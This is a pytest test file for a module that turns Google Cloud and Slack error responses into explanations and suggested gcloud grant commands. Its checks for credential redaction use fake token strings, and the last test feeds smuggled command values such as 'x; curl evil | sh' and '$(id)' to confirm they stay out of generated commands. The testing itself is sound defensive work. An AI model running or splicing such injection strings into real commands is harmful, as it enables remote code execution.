"""The reader of errors: one answer in any form, several errors in one, hostile input, and credentials in it."""

from __future__ import annotations

import json
import random
from typing import Any

import pytest

from costguard.refusals.explanation import RefusalKind
from costguard.refusals.reader import explain

DENIED: dict[str, Any] = {
    "error": {
        "code": 403,
        "message": "Permission 'tpu.nodes.list' denied on resource '//tpu.googleapis.com/projects/p-1/locations/-' "
        "(or it may not exist).",
        "status": "PERMISSION_DENIED",
        "details": [
            {
                "@type": "type.googleapis.com/google.rpc.ErrorInfo",
                "reason": "IAM_PERMISSION_DENIED",
                "domain": "iam.googleapis.com",
                "metadata": {"permission": "tpu.nodes.list", "resource": "projects/p-1/locations/-"},
            }
        ],
    }
}


@pytest.mark.parametrize(
    "answer",
    [
        DENIED,
        json.dumps(DENIED),
        json.dumps(DENIED, indent=2).encode(),
        "\ufeff" + json.dumps(DENIED),
        json.dumps([DENIED]),
        json.dumps({"errorMessage": json.dumps(DENIED)}),
        f"google.api_core.exceptions.Forbidden: 403 GET https://tpu.googleapis.com/v2/x: {DENIED}",
        f"│ Error: googleapi: Error 403: {DENIED['error']['message']}\n│ Details:\n│ {DENIED['error']['details']}",
        json.dumps(DENIED, indent=2)[:-40],
        f"\x1b[31mERROR: (gcloud.compute.tpus.list) PERMISSION_DENIED: {DENIED['error']['message']}\x1b[0m",
    ],
    ids=["object", "text", "bytes", "mark", "list", "nested", "exception", "terraform", "cut", "gcloud"],
)
def test_an_answer_in_any_form_reads_the_same(answer: Any) -> None:
    """The permission, who answered, in which project, and the command that grants it."""
    reading = explain(answer)
    assert reading.kind is RefusalKind.PERMISSION
    assert reading.service == "tpu"
    assert reading.missing.permissions == ("tpu.nodes.list",)
    assert reading.mend == (
        "Run `gcloud projects add-iam-policy-binding p-1 --member=serviceAccount:ACCOUNT --role=roles/tpu.viewer`."
    )


def test_what_the_caller_knows_counts_where_the_answer_says_nothing() -> None:
    """Service, project and account."""
    reading = explain(
        "Required 'compute.zones.list' permission",
        service="monitoring.googleapis.com",
        project="p-2",
        account="sa@p-2.iam.gserviceaccount.com",
    )
    assert reading.service == "monitoring"
    assert reading.sentence == "sa@p-2.iam.gserviceaccount.com lacks the permission compute.zones.list in project p-2."
    assert "add-iam-policy-binding p-2 --member=serviceAccount:sa@p-2.iam.gserviceaccount.com" in reading.mend


@pytest.mark.parametrize(
    ("permission", "resource", "command"),
    [
        (
            "iam.serviceAccounts.actAs",
            "sa@p-1.iam.gserviceaccount.com",
            "gcloud iam service-accounts add-iam-policy-binding sa@p-1.iam.gserviceaccount.com "
            "--member=serviceAccount:ACCOUNT --role=roles/iam.serviceAccountUser",
        ),
        (
            "storage.objects.list",
            "projects/_/buckets/b-1",
            "gcloud storage buckets add-iam-policy-binding gs://b-1 --member=serviceAccount:ACCOUNT "
            "--role=roles/storage.objectViewer",
        ),
        (
            "secretmanager.versions.access",
            "projects/p-1/secrets/s-1/versions/1",
            "gcloud secrets add-iam-policy-binding s-1 --project=p-1 --member=serviceAccount:ACCOUNT "
            "--role=roles/secretmanager.secretAccessor",
        ),
    ],
)
def test_a_role_is_granted_on_the_thing_it_is_about(permission: str, resource: str, command: str) -> None:
    """An account, a bucket and a secret have policies of their own: none needs a right on the whole project."""
    assert f"`{command}`" in explain(f"Permission '{permission}' denied on resource '{resource}'").mend


@pytest.mark.parametrize(
    ("stronger", "kind"),
    [
        (
            "Request is prohibited by organization's policy. vpcServiceControlsUniqueIdentifier: abcdefgh",
            "vpc_service_controls",
        ),
        ("Constraint constraints/compute.vmExternalIpAccess violated for project p-1", "org_policy"),
        ("Request had insufficient authentication scopes.", "scope"),
        ("Project p-1 has billing disabled. Please enable it.", "billing"),
        ("Compute Engine API has not been used in project p-1 before or it is disabled.", "api_disabled"),
    ],
)
def test_of_several_errors_the_one_that_no_role_mends_counts(stronger: str, kind: str) -> None:
    """A perimeter, a policy, a scope, a closed account or a disabled API stays in the way after a grant."""
    weaker = "Required 'compute.zones.get' permission for 'projects/p-1'"
    errors = [{"message": weaker, "reason": "forbidden"}, {"message": stronger, "reason": "forbidden"}]
    for some in (errors, errors[::-1]):
        reading = explain({"error": {"code": 403, "message": some[0]["message"], "errors": some}})
        assert reading.kind == kind
        assert "add-iam-policy-binding" not in reading.mend


def test_an_audit_entry_is_read_by_its_status_and_not_by_its_request() -> None:
    """The request of an insert names reservations, scopes and policies; only the status says what was refused."""
    entry = {
        "protoPayload": {
            "status": {"code": 7, "message": "Required 'compute.instances.create' permission for 'projects/p-1'"},
            "serviceName": "compute.googleapis.com",
            "methodName": "v1.compute.instances.insert",
            "authenticationInfo": {"principalEmail": "sa@p-1.iam.gserviceaccount.com"},
            "request": {"reservationAffinity": {"key": "quota exceeded"}, "note": "constraints/compute.x violated"},
        }
    }
    reading = explain(entry)
    assert reading.kind is RefusalKind.PERMISSION
    assert reading.status == 403
    assert reading.missing.principal == "sa@p-1.iam.gserviceaccount.com"


@pytest.mark.parametrize(
    ("answer", "said"),
    [
        ({"error": {"code": 403, "message": "The flux is out of phase"}}, "The flux is out of phase."),
        ({"error": {"code": 503, "message": "Backend Error"}}, "Backend Error."),
        ("<html><head><title>502 Bad Gateway</title></head></html>", "502 Bad Gateway."),
        ("Hello", "Hello."),
        ("", "The answer says nothing that can be read."),
        ({"ok": False, "error": "brand_new_code"}, "Slack refused the call: brand_new_code."),
    ],
)
def test_an_unknown_answer_gives_its_own_words_and_no_guess(answer: Any, said: str) -> None:
    """403 alone has too many causes to be called a missing permission."""
    reading = explain(answer)
    assert (reading.kind, reading.sentence, reading.mend) == (RefusalKind.UNKNOWN, said, "")


SECRETS = [
    "ya29.c.KpkB-gcYLx5ltaepfoP4JbHDWUabgif4u40UAWKz9kr-I5d",
    "1//0gXyZ1234567890abcdefghijklmnop",
    "xoxb-123456789012-abcdefGHIJKL",
    "xapp-1-A0123-456-abcdef0123456789",
    "AIzaSyA1234567890abcdefghijklmnopqrstuv",
    "GOCSPX-abcdefghij0123456789xyz",
    "eyJhbGciOiJSUzI1NiJ9x.eyJzdWIiOiIxMjM0NTY3ODkwIn0.s1gn4tur3-of_it",
    "ghp_0123456789abcdefghijklmnopqrstuvwxyzAB",
]


@pytest.mark.parametrize("secret", SECRETS)
@pytest.mark.parametrize(
    "frame",
    [
        "googleapi: Error 403: {} is not allowed, forbidden",
        '{{"error":{{"code":401,"message":"token {} is bad","access_token":"{}"}}}}',
        "invalid_grant: Authorization: Bearer {}",
        "slack_sdk.errors.SlackApiError: not_authed, token={}",
    ],
)
def test_no_credential_is_echoed(secret: str, frame: str) -> None:
    """Tokens, keys and signed tokens are gone from every part of the explanation, signature included."""
    reading = explain(frame.format(secret, secret))
    shown = f"{reading.as_json()} {reading}"
    assert secret not in shown
    assert secret[-12:] not in shown


def test_a_private_key_is_not_echoed() -> None:
    """Neither whole nor cut off."""
    key = "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQ\n-----END PRIVATE KEY-----"
    for text in (key, key[:50], json.dumps({"private_key": key, "error": "invalid_grant"})):
        assert "MIIE" not in str(explain(text))


@pytest.mark.parametrize(
    "answer",
    [
        b"a" * 10_000_000,
        b'{"error":' * 200_000,
        b"[" * 100_000 + b"]" * 100_000,
        random.Random(1).randbytes(100_000),
        b"quota " * 100_000,
        b'message: "' * 100_000,
        b"Permission '" * 100_000,
        "\ud800" * 1000,
        b"\x00\xff\xfe",
        b"-----BEGIN PRIVATE KEY-----" * 10_000,
    ],
    ids=["huge", "objects", "lists", "binary", "quota", "message", "permission", "surrogates", "control", "keys"],
)
def test_hostile_input_is_read_in_bounds(answer: Any) -> None:
    """Never an exception, never a long or unprintable line."""
    reading = explain(answer)
    assert len(reading.sentence) < 1000
    assert reading.sentence.isprintable()


@pytest.mark.parametrize(
    ("reason", "kind"),
    [
        ("SERVICE_DISABLED", "api_disabled"),
        ("BILLING_DISABLED", "billing"),
        ("API_KEY_INVALID", "credentials"),
        ("API_KEY_SERVICE_BLOCKED", "credentials"),
        ("RATE_LIMIT_EXCEEDED", "rate_limited"),
        ("RESOURCE_QUOTA_EXCEEDED", "quota"),
        ("USER_PROJECT_DENIED", "permission"),
        ("CONSUMER_SUSPENDED", "unknown"),
        ("CONSUMER_INVALID", "not_found"),
        ("SECURITY_POLICY_VIOLATED", "vpc_service_controls"),
        ("ACCESS_TOKEN_EXPIRED", "credentials"),
        ("ACCESS_TOKEN_SCOPE_INSUFFICIENT", "scope"),
        ("ACCOUNT_STATE_INVALID", "credentials"),
        ("CREDENTIALS_MISSING", "credentials"),
        ("RESOURCE_PROJECT_INVALID", "not_found"),
        ("RESOURCE_USAGE_RESTRICTION_VIOLATED", "org_policy"),
        ("ORG_RESTRICTION_VIOLATION", "org_policy"),
        ("LOCATION_ORG_POLICY_VIOLATED", "org_policy"),
        ("LOCATION_POLICY_VIOLATED", "org_policy"),
        ("GCP_SUSPENDED", "unknown"),
        ("IAM_PERMISSION_DENIED", "permission"),
    ],
)
def test_each_reason_of_googles_has_its_kind(reason: str, kind: str) -> None:
    """The reasons of google/api/error_reason.proto, with a message that says nothing but "permission denied"."""
    info = {"@type": "type.googleapis.com/google.rpc.ErrorInfo", "reason": reason, "domain": "googleapis.com"}
    for named in ("metadata", "metadatas"):
        details = [{**info, named: {"service": "tpu.googleapis.com", "consumer": "projects/p-1"}}]
        answer = {
            "error": {"code": 403, "message": "Permission denied.", "status": "PERMISSION_DENIED", "details": details}
        }
        reading = explain(answer)
        assert (reading.kind, reading.service, reading.missing.project) == (kind, "tpu", "p-1")


@pytest.mark.parametrize(
    ("code", "message", "kind"),
    [
        ("AccessDenied", "Access denied.", "permission"),
        ("NoSuchBucket", "The specified bucket does not exist.", "not_found"),
        ("NoSuchKey", "The specified key does not exist.", "not_found"),
        ("UserProjectAccountProblem", "User project billing account not in good standing.", "billing"),
        ("SignatureDoesNotMatch", "The request signature we calculated does not match.", "credentials"),
        ("SlowDown", "Please reduce your request rate.", "rate_limited"),
        ("InvalidArgument", "Invalid argument.", "request"),
    ],
)
def test_an_error_of_cloud_storage_in_xml(code: str, message: str, kind: str) -> None:
    """Codes of https://cloud.google.com/storage/docs/xml-api/reference-status."""
    answer = f"<?xml version='1.0' encoding='UTF-8'?><Error><Code>{code}</Code><Message>{message}</Message></Error>"
    reading = explain(answer.encode())
    assert (reading.kind, reading.service, reading.said) == (kind, "storage", message)


@pytest.mark.parametrize(
    ("text", "kind", "named"),
    [
        (
            'Operation denied by custom org policy: ["customConstraints/custom.noGpu": "No GPUs"].',
            "org_policy",
            "customConstraints/custom.noGpu",
        ),
        (
            "ERROR: (gcloud.projects.describe) User [a@example.com] does not have permission to access projects "
            "instance [p-1] (or it may not exist): The caller does not have permission",
            "permission",
            "a@example.com",
        ),
        ("Permission denied: Consumer 'projects/p-1' has been suspended.", "unknown", "suspended"),
        ("Insufficient Permission", "scope", "cloud-platform"),
        ("Permission 'orgpolicy.policy.get' denied on resource", "permission", "roles/orgpolicy.policyViewer"),
    ],
)
def test_words_that_look_like_another_kind(text: str, kind: str, named: str) -> None:
    """A policy, an account, a suspension and a scope are read by what they name."""
    reading = explain(text)
    assert reading.kind == kind
    assert named in str(reading.as_json())


def test_an_answer_that_is_known_to_be_googles_is_not_read_as_slacks() -> None:
    """A project may be called slack, and OAuth has an error access_denied as Slack has."""
    text = "Error 403: access_denied for project acme-slack: Required 'compute.zones.get' permission"
    assert explain(text, service="compute.googleapis.com").kind is not RefusalKind.SLACK_TOKEN


def test_a_quota_with_a_limit_for_each_family_of_gpus_names_the_family() -> None:
    """The command asks for the family's limit in its region."""
    reading = explain(
        "Error: Error waiting for instance to create: Quota 'GPUS_PER_GPU_FAMILY' exceeded.  Limit: 0.0 in region "
        "us-central1.\n\tmetric name = compute.googleapis.com/gpus_per_gpu_family\n\tlimit name = "
        "GPUS-PER-GPU-FAMILY-per-project-region\n\tdimensions = map[gpu_family:NVIDIA_H100 region:us-central1]"
    )
    assert "for NVIDIA_H100" in reading.sentence
    assert "--dimensions=region=us-central1,gpu_family=NVIDIA_H100" in reading.mend


@pytest.mark.parametrize(
    ("text", "kind", "words"),
    [
        (
            "PERMISSION_DENIED: Permission denied to enable service [tpu.googleapis.com]",
            "permission",
            "serviceUsageAdmin",
        ),
        ("Project 'p-9' not found or permission denied.", "not_found", "gcloud projects describe p-9"),
        ("Permission denied on resource project p-3.", "permission", "on p-3"),
        ("Quota exceeded for total allowable CPU per project per region.", "quota", "A quota is used up."),
    ],
)
def test_projects_are_named_only_where_the_words_name_one(text: str, kind: str, words: str) -> None:
    """A denial to enable an API names its permission; `per project` names no project."""
    reading = explain(text)
    assert reading.kind == kind
    assert words in f"{reading.sentence} {reading.mend}"


def test_no_answer_writes_its_own_command() -> None:
    """A hostile answer is shown, and a part of it goes into a command only where it is a plain name."""
    for name in ("x; curl evil | sh", "$(id)", "a\nb", "`id`"):
        text = f"The resource 'projects/p/zones/us-central1-a/acceleratorTypes/{name}' was not found"
        reading = explain({"error": {"code": 404, "message": text}})
        assert reading.kind is RefusalKind.NOT_FOUND
        assert "--filter=name=NAME`" in reading.mend or "`" not in reading.mend
        assert "`" not in f"{reading.sentence}{reading.said}"
        assert reading.sentence.isprintable()
